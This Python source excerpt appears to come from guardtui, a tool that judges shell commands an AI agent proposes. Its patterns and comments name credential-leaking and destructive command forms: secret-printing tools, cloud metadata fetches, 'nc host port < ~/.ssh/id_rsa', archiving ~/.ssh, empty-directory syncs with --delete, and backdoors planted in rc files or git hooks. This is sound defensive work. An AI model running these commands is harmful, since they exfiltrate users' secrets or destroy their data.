            return [allow(f"{name} {positionals[0]}: building, testing or checking, as every toolchain does "
                          f"({name} itself is not a command guardtui knows)", "build-test", rule="shell.everyday-verb")]
        acting = _acting_verb(positionals, self.tax)
        if acting:  # `argoctl resubmit …`: an unknown tool told to change something stays unknown inside a script too
            return [unknown(f"{name} is not a command guardtui knows, and `{acting}` says it changes something",
                            _UNKNOWN_ACTING, rule="shell.unknown")]
        return [unknown(f"{name} is not a command guardtui knows", rule="shell.unknown")]

    def _looks_destructive(self, inv: Invocation) -> bool:
        """`etcdctl del "" --prefix`: an unknown tool asked to delete something. "Not
        installed" is judged on the console's PATH, which may not be the agent's, so such a call
        is not waved through on that ground."""
        positionals, options = split_args(inv.args, frozenset())
        words = positionals[:3] + [o.split("=", 1)[0] for o in options]
        return any(verb_word_class(w, self.tax) == "delete" for w in words)

    def sync_from_empty(self, inv: Invocation) -> Finding | None:
        """`mkdir -p /tmp/e && aws s3 sync /tmp/e s3://b --delete`: the destination is wiped."""
        args = inv.args
        deleting = any(a.startswith("--delete") or a in ("-d",) for a in args) or inv.name == "rclone"
        verb = "sync" if "sync" in args else "rsync" if inv.name == "gsutil" and "rsync" in args else ""
        if not verb or not deleting:
            return None
        sources = [w for w in inv.words[args.index(verb) + 1:] if not w.value.startswith("-")]
        if sources and self.known_empty(sources[0], inv):
            return deny(f"{inv.name} sync from the empty {sources[0].display()} deletes everything at the destination",
                        "cloud", "shell.sync-from-empty")
        return None

    def persistent(self, path: str, text: str, cmd: SimpleCommand) -> None:
        """Text written where it will run later (shell rc files, git hooks, systemd units, cron):
        judge what will run; fetching code or sending data from there is a standing backdoor."""
        name = posixpath.basename(path)
        if name in _RC_FILES or "/.git/hooks/" in path or path.endswith(".service") and "/systemd/" in path:
            script = text
            if path.endswith(".service"):
                script = "\n".join(m.group(1) for m in re.finditer(r"(?m)^\s*Exec\w*=\s*[-@+!]*(.*)$", text))
            before = len(self.result.findings)
            self.script(script, cmd.scope.copy(), f"runs later from {name}", cmd.depth + 1)
            for i in range(before, len(self.result.findings)):
                f = self.result.findings[i]
                if f.verdict is Verdict.ASK and f.category in ("remote-exec", "network", "secrets", "dynamic-exec"):
                    self.result.findings[i] = replace(f, verdict=Verdict.DENY, blast_radius=BlastRadius.CRITICAL,
                                                      reason=f"{f.reason}, installed to run again and again from "
                                                             f"{name}")

    def known_empty(self, word: Word, inv: Invocation) -> bool:
        """Was this directory created empty earlier in the command (mkdir, mktemp -d), or is it
        named for being empty (`rclone sync /empty remote:b`: the evident intent is a wipe)?"""
        info = classify(word, inv.scope, self.tax)
        if not info.path:
            return False
        path = info.path.rstrip("/")
        return path in self.empty_dirs or info.path.startswith(MKTEMP_PREFIX) or \
            re.fullmatch(r"(?i)empty([-_]?dir)?|blank|nothing", posixpath.basename(path)) is not None

    def binstub(self, inv: Invocation) -> list[Finding]:
        """`bin/rails db:drop`, `node_modules/.bin/prisma migrate reset`: a project's launcher for a
        tool guardtui knows is judged as that tool, where it knows what the call does."""
        m = re.fullmatch(r"(?:\./)?(?:bin|node_modules/\.bin|vendor/bin)/([\w.-]+)", inv.written_name)
        if m is None or m.group(1) == inv.name and "/" not in inv.name:
            return []
        tool = m.group(1)
        if not (self.tax.shapes_for(tool) or tool in self.tax.commands or tool in _HANDLERS):
            return []
        findings = self.judge_invocation(Invocation(tool, inv.words, inv.cmd, inv.scope, inv.privileged, tool))
        if not findings or any(f.rule in ("shell.unknown", "shell.not-installed") for f in findings):
            return []  # nothing known about this call: it stays the project's own script
        return findings

    def script_run(self, inv: Invocation, runner: str = "") -> Finding:
        if re.match(r"(?i)(https?|ftp|git\+\w+|jsr|npm):", inv.written_name):
            # deno run https://…/install.ts, bun https://…: code fetched and run as it is
            return ask(f"runs {inv.written_name}, code fetched from the network", "remote-exec", BlastRadius.HIGH,
                       "shell.remote-script")
        info = classify(Word.literal(inv.written_name), inv.scope, self.tax)
        if info.path and info.path in self.written:
            self.nested(self.written[info.path], inv, f"{inv.written_name} (written above)")
            return allow(f"runs {inv.written_name}, written above (its commands are judged)", "build-test",
                         rule="shell.written-script")
        if info.path and info.path in self.downloaded:
            return ask(f"runs {inv.written_name}, which this command just downloaded", "remote-exec",
                       BlastRadius.HIGH, "shell.downloaded-script")
        judged = self.project_file(info.path, inv, runner) if info.path else None
        judged = judged or allow(f"runs the local script {inv.written_name}", "build-test", rule="shell.script")
        # a framework's own entry script (bin/console, manage.py) run directly: what the taxonomy knows of its
        # subcommands (doctrine:database:drop, flush) holds as it does for `php bin/console …`
        name = posixpath.basename(inv.written_name)
        if inv.words and name in self.tax.shapes_by_command:
            shaped = [f for f in self.taxonomy(Invocation(name, inv.words, inv.cmd, inv.scope, inv.privileged, name))
                      if f.rule.startswith("taxonomy:")]
            worst_shaped = worst(shaped) if shaped else None
            if worst_shaped is not None and (worst_shaped.verdict.restrictiveness, worst_shaped.blast_radius.severity) \
                    > (judged.verdict.restrictiveness, judged.blast_radius.severity):
                return worst_shaped
        return judged

    def generic(self, inv: Invocation) -> list[Finding]:
        text_name = posixpath.basename(inv.written_name or inv.name)
        out = []
        for shape in self.tax.generic_shapes:
            m = match_shape(shape, text_name, inv.args, frozenset())
            if m is not None:
                out.append(by_radius(shape.blast_radius, m.reason(text_name), shape.category, f"taxonomy:{shape.id}"))
        for arg in inv.args:  # `app eval 'Repo.query!("TRUNCATE jobs")'`: SQL handed to a program guardtui does not know
            for m in _EMBEDDED_SQL.finditer(arg):
                verdict = cmd_code.classify_sql(m.group(0))
                if verdict is not None and verdict[0] == "critical":
                    out.append(deny(f"{text_name} is handed SQL that {verdict[1][0].lower() + verdict[1][1:]}",
                                    "database", "sql.embedded"))
                    break
        return out

    def dynamic_name(self, inv: Invocation) -> list[Finding]:
        """The command name is only known at run time: ask, or deny if rm with these args would be catastrophic."""
        stand_in = Invocation("rm", inv.words, inv.cmd, inv.scope, inv.privileged, inv.written_name)
        hypothetical = cmd_fs.rm(self, stand_in, record=False)
        shown = inv.written_name.replace(DYN, "…") or "…"
        if any(f.verdict is Verdict.DENY for f in hypothetical):
            return [deny(f"the command name {shown} is only known at run time, and with these arguments it could "
                         f"wipe {inv.words[-1].display() if inv.words else 'everything'}", "dynamic-exec",
                         "shell.dynamic-name")]
        return [ask(f"the command name {shown} is only known at run time", "dynamic-exec", BlastRadius.HIGH,
                    "shell.dynamic-name")]

    # -- helpers used by the command modules -----------------------------------------
    def path(self, word: Word, inv: Invocation):
        return classify(word, inv.scope, self.tax)

    def delete(self, word: Word, inv: Invocation, recursive: bool, what: str, record: bool = True) -> Finding:
        info = self.path(word, inv)
        if record:
            self.effect(info.path, word.display(), "delete", inv.cmd, info.remote, recursive=recursive,
                        members=glob_members(word) if info.glob or info.contents else ())
        finding = delete_finding(info, recursive, what)
        if finding.verdict is Verdict.DENY and info.kind is PathKind.PROJECT_ROOT and not info.remote and \
                (enclosing := self.enclosing_project(info.path, inv.scope.home)):
            # the working directory is a named path inside a project (target/, build/): its contents, not the project
            finding = ask(f"{what} {info.shown} recursively deletes {info.path}, a named path inside the project "
                          f"{enclosing}", finding.category, BlastRadius.HIGH, finding.rule)
        return finding

    def enclosing_project(self, path: str | None, home: str) -> str | None:
        """The project root strictly above `path` (its nearest ancestor below the home directory with a
        project marker: .git, package.json, dbt_project.yml, …), when `path` itself is no project root."""
        if not path or path in ("/", home.rstrip("/")) or not path.startswith(home.rstrip("/") + "/"):
            return None
        markers = self.tax.project_markers
        if _has_marker(path, markers):
            return None
        parent = posixpath.dirname(path)
        for _ in range(12):
            if parent in ("/", home.rstrip("/")) or not parent.startswith(home.rstrip("/") + "/"):
                return None
            if _has_marker(parent, markers):
                return parent
            parent = posixpath.dirname(parent)
        return None

    def read(self, word: Word, inv: Invocation) -> None:
        """`word` names a file the command reads (kept for the protection rule: reading the token asks)."""
        if word.value.startswith("-") and not word.value.startswith("-/"):
            return
        info = self.path(word, inv)
        if info.kind not in (PathKind.HARMLESS_DEVICE,) and (info.path or DYN in word.value):
            self.effect(info.path, word.display(), "read", inv.cmd, info.remote)

    def write(self, word: Word, inv: Invocation, what: str, kind: str = "write", **more) -> Finding | None:
        """`word` is written (or, by `kind`, linked, copied or unpacked into): the effect, and the
        verdict for the place."""
        self._guardtui_process_file(word, inv.scope.home)
        info = self.path(word, inv)
        if info.kind is PathKind.HARMLESS_DEVICE:
            return None
        if (info.glob or info.contents) and "members" not in more:  # `sed -i … .claude/*.json`
            more["members"] = glob_members(word)
        self.effect(info.path, word.display(), kind, inv.cmd, info.remote, **more)
        return write_finding(info, what)

    @contextmanager
    def feeding(self, via: str, carrier: SimpleCommand):
        """Commands judged inside (at `via`) that read no stdin of their own read `carrier`'s: ssh's, a
        container exec's, handed on to the command run there."""
        self.fed_stdin.append((via, carrier))
        try:
            yield
        finally:
            self.fed_stdin.pop()

    def stdin_carrier(self, cmd: SimpleCommand) -> SimpleCommand:
        """The command whose stdin `cmd` reads: itself, or the carrier that runs it elsewhere (`feeding`)."""
        own = cmd.stdin_body is not None or cmd.stdin_redirected or cmd.stdin_group is not None or \
            cmd.stdin_from is not None or cmd.piped
        if own or not self.fed_stdin:
            return cmd
        via, carrier = self.fed_stdin[-1]
        return self.stdin_carrier(carrier) if cmd.via == via else cmd

    def fed_program(self, inv: Invocation, language: str) -> Finding | None:
        """`python3 - < tool.py`, `bash < setup.sh`, `ssh h bash -s < setup.sh`, `kubectl exec -i P -- python3 - <
        x.py`: the file the local shell feeds on stdin is the program the interpreter runs, judged as that code
        running where the interpreter runs (on the other host: its own files are not these, but what it sends or
        fetches is). None when it cannot be read."""
        carrier = self.stdin_carrier(inv.cmd)
        fed = [r for r in carrier.redirects if r.op == "<" and r.fd in (None, 0)]
        if not fed or fed[-1].target is None or fed[-1].producers:
            return None
        info = classify(fed[-1].target, carrier.scope, self.tax)
        path = info.path
        text = None if not path or info.remote else \
            self.written.get(path) if path in self.written else self._copied_text(path) or read_text(path)
        if text is None:  # on another machine, code unseen runs with its data: the person decides
            return ask(f"{inv.name} runs {fed[-1].target.display()} on the other machine, and it cannot be read here",
                       "remote-exec", BlastRadius.MEDIUM, "shell.fed-script") if inv.scope.remote else None
        assert path is not None
        name = shown(path, carrier.scope.project or carrier.scope.cwd)
        stop = self.enter_file(path)
        if stop is not None:
            return replace(stop, reason=stop.reason.replace(path, name))
        try:
            scope = inv.scope.copy()
            scope.facts["in-file"] = path
            self.program(text, language, inv, Origin(name), scope, f"{name} › {inv.name}")
        finally:
            self.leave_file(path)
        where = " on the other machine" if inv.scope.remote else ""
        return allow(f"{inv.name} runs {name}, fed on its input{where} (its contents are judged)", "build-test",
                     rule="shell.fed-script")

    def stdin_source(self, cmd: SimpleCommand) -> Stream:
        """Where a command's stdin comes from, and its text when that is known."""
        cmd = self.stdin_carrier(cmd)
        body = cmd.stdin_body
        if body is not None:
            return Stream("text", body) if DYN not in body else Stream("unknown")
        if cmd.stdin_redirected:
            last = [r for r in cmd.redirects if r.op == "<" and r.fd in (None, 0)][-1]
            if last.producers:  # `< <(printf …)`: what that command prints
                producer = next((c for c in reversed(last.producers) if c.via == last.producers[-1].via), None)
                return self.output_of(producer) if producer is not None else Stream("unknown")
            info = classify(last.target, cmd.scope, self.tax) if last.target is not None else None
            if info is not None and info.path and is_secret(info.path, cmd.scope.home, self.tax):
                return Stream("secret")  # nc host port < ~/.ssh/id_rsa
            return Stream("file")
        if cmd.stdin_group is not None:
            return self.group_output(cmd.stdin_group)
        if cmd.stdin_from is None:
            return Stream("unknown") if cmd.piped else Stream("none")
        return self.output_of(cmd.stdin_from)

    def group_output(self, commands: list[SimpleCommand]) -> Stream:
        """The output of `( a; b )`: the known parts, with unknown ones marked."""
        parts, kinds, obfuscated = [], set(), False
        for c in commands:
            out = self.output_of(c)
            kinds.add(out.kind)
            parts.append(out.text if out.kind == "text" and out.text is not None else DYN + "\n")
            obfuscated |= out.obfuscated
        for kind in ("secret", "network"):
            if kind in kinds:
                return Stream(kind)
        return Stream("text", "".join(parts), obfuscated) if "text" in kinds else Stream("unknown")

    def output_of(self, cmd: SimpleCommand) -> Stream:
        words = list(cmd.argv)
        while words and posixpath.basename(words[0].value) in ("sudo", "command", "nohup", "stdbuf", "time"):
            words = words[1:]
            while words and words[0].value.startswith("-"):
                words = words[1:]
        if not words or words[0].dynamic:
            return Stream("unknown")
        name = posixpath.basename(words[0].value)
        args = [w.value for w in words[1:]]
        if name in _FETCHERS or name in ("nc", "ncat", "socat", "lynx", "links", "w3m", "fetch"):
            if any(metadata_service(host_of(a) or "") for a in args if not a.startswith("-")):
                return Stream("secret")  # the instance's cloud credentials
            return Stream("network")
        if name in ("env", "printenv", "set", "export", "declare") and not \
                [a for a in args if not a.startswith("-") and "=" not in a]:
            return Stream("secret")  # the environment holds tokens
        if _SECRET_PRINTERS.match(" ".join([name] + args)):
            return Stream("secret")
        if name in ("tar", "zip", "7z", "gzip", "cpio") and any(
                not w.value.startswith("-") and (info := classify(w, cmd.scope, self.tax)).path
                and self.holds_secret(info.path, cmd.scope.home) for w in words[1:]):
            return Stream("secret")  # tar czf - ~/.ssh: an archive of keys
        if name in ("tar", "gtar", "bsdtar") and any(self.holds_secret(p, cmd.scope.home)
                                                     for p in cmd_fs.tar_member_paths(self, words[1:], cmd.scope)):
            return Stream("secret")  # tar czf - -C ~ .ssh, or a directory a secret was archived into above
        if name in ("cat", "head", "tail", "base64", "xxd", "tac", "strings") and any(
                not a.startswith("-") and (info := classify(w, cmd.scope, self.tax)).path
                and is_secret(info.path, cmd.scope.home, self.tax) for a, w in zip(args, words[1:])):
            return Stream("secret")
        if name in _CREDENTIAL_PICKERS and re.search(r"(?i)token|secret|passw|api_?key|credential|auth", " ".join(args)):
            # grep upstash.token local.properties: a credential picked out of a file that holds one
            for a, w in zip(args, words[1:]):
                info = classify(w, cmd.scope, self.tax) if not a.startswith("-") else None
                if info is not None and info.path and not cmd.scope.remote and holds_credentials(info.path):
                    return Stream("secret")
        if name in _CREDENTIAL_PICKERS and not {"-c", "-l", "-L", "-q", "--count", "--quiet", "--files-with-matches"} & \
                set(args) and any(not a.startswith("-") and (info := classify(w, cmd.scope, self.tax)).path and
                                  is_secret(info.path, cmd.scope.home, self.tax) for a, w in zip(args, words[1:])):
            return Stream("secret")  # grep '^DATABASE_URL=' .env: lines of a secret file
        upstream = self.stdin_source(cmd)
        known = Output(upstream.text, upstream.obfuscated) if upstream.kind == "text" and upstream.text is not None \
            else None
        out = static_output([w.value for w in words], known, cmd.scope)
        if out is not None:
            return Stream("text", out.text + ("\n" if not out.text.endswith("\n") else ""),
                          out.obfuscated or upstream.obfuscated)
        if name in _PASS_THROUGH and upstream.kind in ("network", "secret"):
            return Stream(upstream.kind)
        return Stream("unknown")


def _reaches_terminal(cmd: SimpleCommand) -> bool:
    """Does what this command prints end up on the terminal (and in the agent's transcript)? Through a
    filter that passes its input on (`gh auth token | head -c 12`) it still does; captured in $(…),
    redirected to a file or piped into another program, the program that takes it is judged instead."""
    for _ in range(16):
        if any(v in cmd.via for v in ("$(…)", "<(…)", ">(…)")) or \
                any(r.writes and r.fd in (None, 1) for r in cmd.redirects):
            return False
        if not cmd.pipes_out:
            return True
        following = cmd.stdout_to
        name = posixpath.basename(following.argv[0].value) if following is not None and following.argv else ""
        if following is None or name not in _PASS_THROUGH:  # tee prints what it writes
            return False
        cmd = following
    return False


# commands whose output is a secret: keychains, password managers, cloud credentials
_ENV_DUMP = re.compile(r"^\s*(?:env|printenv|set|export\s+-p|declare\s+-x|cat\s+/proc/self/environ)\s*$")
_SECRET_PRINTERS = re.compile(r"^(security find-(generic|internet)-password .*-w|op (read|item get)|pass (show )?\S|"
                              r"git credential(-\S+)? (fill|get)|"
                              r"gopass (show )?\S|bw get|lpass show|vault (kv get|read) .*-field|aws configure get |"
                              r"aws configure export-credentials|gcloud auth print-(access|identity)-token|"
                              r"gh auth token|az account get-access-token|kubectl get secret|doppler secrets)")


# commands whose operands are names, not files they read (the others may read what they are given)
_NAMES_ONLY = cmd_fs.METADATA_ONLY | frozenset({
    "echo", "printf", "rm", "rmdir", "unlink", "mkdir", "touch", "chmod", "chown", "chgrp", "ln", "mv", "kill",
    "pkill", "export", "set", "unset", "alias", "command", "cd", "pushd", "exit", "return", "shift", "sleep",
    "true", "false", ":", "git", "ps", "pgrep", "man", "help", "whereis", "trash", "shred", "truncate"})
_RC_FILES = frozenset({".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zprofile", ".zshenv",
                       ".zlogin", "config.fish", ".kshrc", ".mkshrc", ".inputrc", ".envrc"})
_PASS_THROUGH = frozenset({"cat", "head", "tail", "tee", "sort", "tr", "sed", "awk", "grep", "cut", "xxd", "rev",
                           "gunzip", "zcat", "gzip", "bzip2", "xz", "openssl", "jq", "base64", "base32", "od",
                           "uniq", "fold", "iconv", "gpg"})


def _wrapper_options(name: str, spec: dict, words: list[Word]) -> tuple[list[tuple[str, str | None]], list[Word]]:
    """A wrapper's leading options as (flag, value) pairs, and the words after them.

    Handles clusters (-uroot, -C/tmp, -pvV), --long=value, --long value and `--`."""
    takes_value = set(spec.get("value_options", ())) | set(spec.get("command_option", ()))
    options: list[tuple[str, str | None]] = []
    i = 0
    while i < len(words):
        arg = words[i].value
        if arg == "--":
            return options, words[i + 1:]
        if arg == "-" and name == "su":  # `su -` is a login shell
            options.append(("-", None))
            i += 1
            continue
        if not arg.startswith("-") or arg == "-" or DYN in arg:
            break
        if arg.startswith("--"):
            flag, eq, value = arg.partition("=")
            if flag in takes_value and not eq:
                i += 1
                value = words[i].value if i < len(words) else ""
            options.append((flag, value if (eq or flag in takes_value) else None))
            i += 1
            continue
        letters = arg[1:]
        for j, letter in enumerate(letters):
            flag = "-" + letter
            if flag in takes_value:
                value = letters[j + 1:]
                if not value:
                    i += 1
                    value = words[i].value if i < len(words) else ""
                options.append((flag, value))
                break
            options.append((flag, None))
        i += 1
    return options, words[i:]


def _installed(segment: str) -> bool:
    """A command run by its path among the system's programs (`$(command -v shadow)`): installed, not planted."""
    words = segment.split()
    return bool(words) and words[0].startswith(SYSTEM_PROGRAM_DIRS)


def _depth_of(via: str) -> int:
    return via.count("›")


def _chdir(scope: Scope, target: str) -> Scope:
    new = scope.copy()
    if DYN in target or not target:
        new.cwd = None
    else:
        new.cwd = posixpath.normpath(posixpath.join(scope.cwd or "/", target)) if (scope.cwd or target.startswith("/")) else None
    return new


# commands whose first operand is a program they fetch or run: a --help after it is that program's
# (`npx some-pkg --help` still downloads and runs some-pkg)
_RUNS_ITS_OPERAND = frozenset({"npx", "bunx", "pnpx", "uvx", "pipx", "deno", "bun", "python", "python3", "node",
                               "ruby", "perl", "php", "Rscript", "lua", "java", "dotnet"})


# variables that choose which environment (and so which database) a framework's command works on
_ENVIRONMENT_SELECTOR = re.compile(r"(?:[A-Z]+_)?ENV(?:IRONMENT)?|STAGE|DJANGO_SETTINGS_MODULE|SPRING_PROFILES_ACTIVE|"
                                   r"ASPNETCORE_ENVIRONMENT|DOTNET_ENVIRONMENT")
_DATABASE_VARIABLE = re.compile(r"(?:[A-Z_]*_)?(?:DATABASE_URL|DB_URL|DSN|DBSTRING|DB_HOST|PGHOST|MYSQL_HOST|DATABASE_HOST)")
_NOT_DEV = re.compile(r"(?i)(?:^|[^a-z])(prod|production|staging|stage|live)(?:[^a-z]|$)")


def _production_environment(inv: Invocation, remote: bool = False) -> str | None:
    """The environment a command is pointed at, when it is not a developer's own: a variable that selects it
    (RAILS_ENV=production, DJANGO_SETTINGS_MODULE=config.settings.staging) or a database URL whose host says
    so (with `remote`, for a wipe of the configured database: any host not on this machine), set on the command,
    earlier in it, or in the project's .env file."""
    env = load_dotenv(posixpath.join(inv.scope.cwd, ".env")) if inv.scope.cwd else {}
    env.update(inv.scope.variables)
    env.update({name: word.value for name, word in inv.cmd.assignments})
    for name, value in env.items():
        if not isinstance(value, str) or DYN in value:
            continue
        if _ENVIRONMENT_SELECTOR.fullmatch(name) and "/" not in value and _NOT_DEV.search(value):
            return f"{name}={value}"
        if _DATABASE_VARIABLE.fullmatch(name):
            host = re.sub(r"^[a-z+]+://(?:[^@/]*@)?", "", value).split("/")[0]
            if _NOT_DEV.search(host):
                return f"the database at {host} ({name})"
            if remote and not _ON_THIS_MACHINE.match(host.rsplit(":", 1)[0] if not host.endswith("]") else host):
                return f"the database at {host} ({name}), not one on this machine"
    return None


# database hosts that are this machine or a container beside it (a compose service's one-word name)
_ON_THIS_MACHINE = re.compile(r"(?i)^(|localhost|127\.[0-9.]+|0\.0\.0\.0|\[::1\]|::1|[\w-]+|host\.docker\.internal|"
                              r"[\w.-]+\.(localhost|local|test))$")


_DATABASE_URL = re.compile(r"(?i)^(?:jdbc:)?(?:postgres(?:ql)?|pgx|mysql|mariadb|mongodb(?:\+srv)?|redis|rediss|"
                           r"clickhouse|sqlserver|mssql|tidb|cockroach(?:db)?|libsql|turso|oracle|spanner)://"
                           r"(?:[^@/]*@)?(\[[^\]]*\]|[^/:?;,]*)")


def _remote_database_argument(args: list[str]) -> str | None:
    """A database URL among the arguments (an operand or an option's value) whose host is not this machine:
    a wipe of the database a command is pointed at lands on a server's data (`goose postgres DSN reset`)."""
    for a in args:
        value = (a.partition("=")[2] if a.startswith("-") and "=" in a else a).strip().strip("'\"")
        m = _DATABASE_URL.match(value)
        if m and DYN not in value and not _ON_THIS_MACHINE.match(m.group(1)):
            return f"the database at {m.group(1)}, not one on this machine"
    return None


def _production_target(args: list[str]) -> str | None:
    """What in the arguments names a production database (or a linked remote one), if anything."""
    for a in args:
        if a == "--linked":
            return "the linked remote database"
        value = a.partition("=")[2] if a.startswith("-") and "=" in a else a
        if re.search(r"(?i)\.(dump|sql|gz|tar|bak|backup|archive)$", value):
            continue  # restoring FROM prod.dump: the file is the source, not the target
        if re.search(r"(?i)(^|[^a-z])prod(uction)?([^a-z]|$)", value) and not value.startswith("-"):
            return f"{value} (production)"
        remote = _REMOTE_DATABASE_URL.match(value)
        if remote and not _LOCAL_HOST.fullmatch(remote.group("host")):
            return f"{remote.group('host')} (a database on another machine, not a development copy)"
    return None


# a database URL whose host is another machine: a wipe there is a shared environment's data
_REMOTE_DATABASE_URL = re.compile(r"(?i)^(?:postgres(?:ql)?|mysql|mariadb|mongodb(?:\+srv)?|redis|rediss|sqlserver|"
                                  r"mssql|clickhouse|cockroachdb|oracle)://(?:[^@/\s]*@)?(?P<host>\[[^\]]+\]|[^:/?\s]+)")
_LOCAL_HOST = re.compile(r"(?i)localhost|127(?:\.\d+){3}|\[?::1\]?|0\.0\.0\.0|host\.docker\.internal|db|postgres|mysql|"
                         r"redis|mongo|database")


def _describes(name: str, args: list[str]) -> bool:
    """`node --version`, `terraform -help`: only describes. A version flag followed by a value is not asking
    for the version but choosing one (`cargo install tauri-cli --version '^1.5'` installs)."""
    options = _describing_options(name, args)
    for i, a in enumerate(options):
        if a in _DESCRIBE_FLAGS:
            after = options[i + 1] if i + 1 < len(options) else None
            if a.endswith("version") and after is not None and not after.startswith("-"):
                continue
            return True
    return False


def _describing_options(name: str, args: list[str]) -> list[str]:
    options = _options_before_end(args)
    if name not in _RUNS_ITS_OPERAND:
        return options
    before = []
    for a in options:
        if not a.startswith("-"):
            break
        before.append(a)
    return before


def _options_before_end(args: list[str]) -> list[str]:
    out = []
    for a in args:
        if a == "--":
            break
        out.append(a)
    return out


def _has_option(args: list[str], flag: str) -> bool:
    for a in _options_before_end(args):
        if a == flag or (flag.startswith("--") and a.startswith(flag + "=")):
            return True
        if any(c in flag for c in "*?[") and re.fullmatch(flag.replace("*", ".*"), a):
            return True
    return False


def _safe_category(name: str) -> str:
    return "build-test" if name in RUNNERS or name in ("make", "cmake", "pytest", "jest", "tsc") else "read-only"


def _whole_resource(args: list[str], verb: str, tax) -> str | None:
    """The object word right before a delete verb, when it names a whole resource (bucket, database, project)."""
    if verb not in args:
        return None
    i = args.index(verb)
    before = args[i - 1].lower() if i > 0 and not args[i - 1].startswith("-") else ""
    if before in tax.whole_resources:
        return before
    # aws glue delete-database, aws ecs delete-cluster: the object is part of the verb
    action, _, noun = verb.lower().partition("-")
    if action in ("delete", "destroy", "drop", "remove") and noun:
        last = noun.rsplit("-", 1)[-1]
        return noun if noun in tax.whole_resources else last if last in tax.whole_resources else None
    return None


_EMBEDDED_SQL = re.compile(r"\b(?:TRUNCATE(?:\s+TABLE)?\s+\w|DROP\s+(?:TABLE|DATABASE|SCHEMA)\s+\w|DELETE\s+FROM\s+\w)"
                           r"[^\"'`;)]*", re.I)
_FIND_RUNS = re.compile(r"-(?:exec|execdir|ok|okdir)")


# an unknown command whose subcommand is a verb that changes something (resubmit, deploy, delete): inside a project's
# script too it is judged as unknown (asks), not waved through as the project's business
_UNKNOWN_ACTING = "unknown-acting"


def _acting_verb(positionals: list[str], tax) -> str | None:
    """The first of the leading operands that is an acting verb (taxonomy acting_verbs; `re`+verb too: resubmit,
    redeploy; `deploy:prod`, `db:drop`: each part)."""
    for word in positionals[:3]:
        for part in re.split(r"[:.]", word.lower()):
            if part in tax.acting_verbs or part.startswith("re") and part[2:] in tax.acting_verbs:
                return word
    return None
# programs that print or search their words rather than fetch them (`echo http://169.254.169.254` fetches nothing)
_WORDS_ONLY = frozenset({"echo", "printf", "grep", "egrep", "fgrep", "rg", "ag", "ack", "git", "sed", "awk", "jq",
                         "cat", "man", "test", "[", "export", "read", "true", "false", ":", "logger", "notify-send",
                         # name lookups and probes: they resolve or ping the address, they fetch nothing from it
                         "getent", "host", "dig", "nslookup", "drill", "resolvectl", "ping", "ping6", "traceroute",
                         "tracepath", "mtr", "whois", "arp", "ip", "route"})


def _first(handler, fallback):
    """`handler`'s findings, else `fallback`'s (None: nothing)."""
    return lambda run, inv: handler(run, inv) or (fallback(run, inv) if fallback is not None else [])


_HANDLERS = {
    **{n: cmd_fs.rm for n in ("rm", "srm")},
    **{n: cmd_fs.rimraf for n in ("rimraf", "del-cli", "trash", "trash-put", "gio-trash")},
    "unlink": cmd_fs.unlink, "rmdir": cmd_fs.rmdir, "shred": cmd_fs.shred,
    "mv": cmd_fs.mv, "cp": cmd_fs.cp, "install": cmd_fs.cp, "ln": cmd_fs.ln, "rsync": cmd_fs.rsync,
    **{n: cmd_fs.write_operands for n in ("touch", "mkdir", "tee", "truncate", "sponge", "mkfifo")},
    **{n: cmd_fs.chmod for n in ("chmod", "chown", "chgrp")},
    "dd": cmd_fs.dd, "find": cmd_fs.find, "fd": cmd_fs.fd, "fdfind": cmd_fs.fd, "scp": cmd_net.scp,
    "at": cmd_exec.at, "batch": cmd_exec.at,
    **{n: cmd_net.socket_client for n in ("nc", "ncat", "netcat", "socat", "telnet", "openssl")},
    **{n: cmd_fs.mkfs for n in ("mkfs", "mke2fs", "mkswap", "mkdosfs", "mkntfs", "newfs", "mkfs.ext2", "mkfs.ext3",
                                "mkfs.ext4", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat", "mkfs.fat", "mkfs.ntfs",
                                "mkfs.exfat", "mkfs.f2fs", "mkfs.msdos", "mkfs.minix", "mkfs.bfs", "mkfs.cramfs")}, "sed": cmd_fs.sed, "gsed": cmd_fs.sed,
    **{n: cmd_fs.awk for n in ("awk", "gawk", "mawk", "nawk")},
    "cpio": cmd_fs.cpio, "mount": cmd_fs.mount, "tar": cmd_fs.tar, "gtar": cmd_fs.tar, "bsdtar": cmd_fs.tar, "unzip": cmd_fs.unzip, "pax": cmd_fs.pax,
    "incrontab": cmd_triggers.incrontab, "watchman": cmd_triggers.watchman, "pm2": cmd_triggers.pm2,
    "ttyd": cmd_triggers.web_terminal, "gotty": cmd_triggers.web_terminal,
    "git": cmd_git.git,
    # Jujutsu, or tidwall's JSON editor of the same name (an in-place editor)
    "jj": lambda run, inv: cmd_git.jj(run, inv) if cmd_git.is_jujutsu(inv) else cmd_fs.in_place(run, inv),
    **{n: lambda run, inv: cmd_containers.docker(run, inv) or cmd_compose.compose(run, inv)
       for n in ("docker", "podman", "nerdctl")},
    **{n: cmd_compose.compose for n in ("docker-compose", "podman-compose")},
    "kubectl": cmd_containers.kubectl, "oc": cmd_containers.kubectl,
    **{n: cmd_containers.local_cluster for n in ("kind", "k3d", "minikube")},
    "crontab": cmd_exec.crontab, "alias": cmd_exec.alias,
    "rails": lambda run, inv: cmd_code.rails(run, inv) or cmd_migrate.migrations(run, inv) or [],
    "sqitch": lambda run, inv: cmd_migrate.migrations(run, inv) or [],
    "pytest": cmd_code.pytest, "py.test": cmd_code.pytest, "ansible": cmd_exec.ansible,
    "ansible-playbook": cmd_ansible.ansible_playbook, "logrotate": cmd_logrotate.logrotate,
    **{n: lambda run, inv: cmd_salesforce.judge(run, inv) or run.taxonomy(inv) for n in ("sf", "sfdx")},
    **{n: cmd_exec.terraform for n in ("terraform", "tofu", "terragrunt")},
    "gh": lambda run, inv: cmd_ci.gh_workflow(run, inv) or cmd_net.publish(run, inv), "glab": cmd_net.publish,
    "act": cmd_ci.act, "gh-act": cmd_ci.act, "gitlab-runner": cmd_ci.gitlab_runner,
    "gitlab-ci-local": cmd_ci.gitlab_ci_local,
    **{n: cmd_exec.gcloud_ssh for n in ("gcloud", "fly", "flyctl", "forge", "heroku")},
    **{n: cmd_exec.npx for n in ("npx", "bunx", "pnpx")},
    **cmd_tasks.HANDLERS,
    **cmd_build.HANDLERS,
    **cmd_notebook.HANDLERS,
    **{n: lambda run, inv: cmd_exec.npm_exec(run, inv) or cmd_tasks.package_manager(run, inv)
       for n in ("npm", "pnpm", "yarn")},
    "bun": lambda run, inv: cmd_exec.npm_exec(run, inv) or cmd_tasks.package_manager(run, inv) or
    cmd_code.judge(run, inv),
    **{n: cmd_net.curl for n in ("curl", "wget", "http", "https", "xh")},
